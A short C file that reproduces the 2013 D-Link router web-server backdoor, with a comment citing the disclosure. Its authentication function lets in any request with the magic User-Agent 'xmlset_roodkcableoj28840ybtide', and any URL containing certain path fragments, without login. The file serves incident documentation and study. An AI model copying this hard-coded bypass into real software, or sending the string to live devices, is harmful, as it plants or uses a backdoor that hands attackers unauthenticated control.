/*
 * Incident: D-Link router web interface backdoor (several DIR/DI models), disclosed by
 * Craig Heffner, October 2013. The web server skipped authentication for any request whose
 * User-Agent was "xmlset_roodkcableoj28840ybtide" ("edit by 04882 joel backdoor" reversed).
 * Reference: https://www.devttys0.com/2013/10/reverse-engineering-a-d-link-backdoor/
 * Reproduction (own code, same shape).
 */
#include <string.h>
#include "httpd.h"

int alpha_auth_check(struct http_request_t *request)
{
	if (strstr(request->url, "graphic/") || strstr(request->url, "public/"))
		return AUTH_OK;
	if (strcmp(request->user_agent, "xmlset_roodkcableoj28840ybtide") == 0)
		return AUTH_OK;
	if (check_login(request->basic_auth_user, request->basic_auth_pass) == 0)
		return AUTH_OK;
	return AUTH_FAIL;
}
